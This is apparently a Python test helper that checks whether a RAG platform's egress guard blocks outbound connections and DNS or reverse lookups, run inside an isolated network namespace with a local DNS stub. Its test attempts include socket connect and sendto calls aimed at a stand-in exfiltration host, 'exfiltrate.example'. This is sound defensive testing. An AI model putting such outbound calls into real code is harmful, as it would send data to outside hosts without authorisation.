"""Run inside an empty network namespace (tests/test_security_review.py): a DNS server on that
namespace's own loopback records every query, and the egress guard is asked to refuse names
and reverse lookups. Prints what reached the resolver, as JSON. Nothing can leave: the
namespace has no interface but its loopback."""

from __future__ import annotations

import json
import socket
import threading

queries: list[bytes] = []
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))


def serve() -> None:
    while True:
        data, peer = server.recvfrom(2048)
        queries.append(data)
        # NXDOMAIN at once, so the resolver does not wait.
        server.sendto(data[:2] + b"\x81\x83" + data[4:6] + b"\x00\x00\x00\x00\x00\x00" + data[12:], peer)


threading.Thread(target=serve, daemon=True).start()

from rag_platform.process.egress import install_egress_guard  # noqa: E402

install_egress_guard()
results = {}


def attempt(name: str, action) -> None:
    before = len(queries)
    try:
        action()
        outcome = "done"
    except Exception as error:  # noqa: BLE001 - the kind of refusal is the result
        outcome = type(error).__name__
    results[name] = {"outcome": outcome, "dns_queries": len(queries) - before}


attempt("connect", lambda: socket.socket().connect(("exfiltrate.example", 80)))
attempt("connect_ex", lambda: socket.socket().connect_ex(("exfiltrate.example", 80)))
attempt("sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("exfiltrate.example", 9)))
attempt("gethostbyaddr", lambda: socket.gethostbyaddr("10.1.2.3"))
attempt("getnameinfo", lambda: socket.getnameinfo(("10.1.2.3", 80), 0))
attempt("getaddrinfo", lambda: socket.getaddrinfo("exfiltrate.example", 80))
print(json.dumps(results))
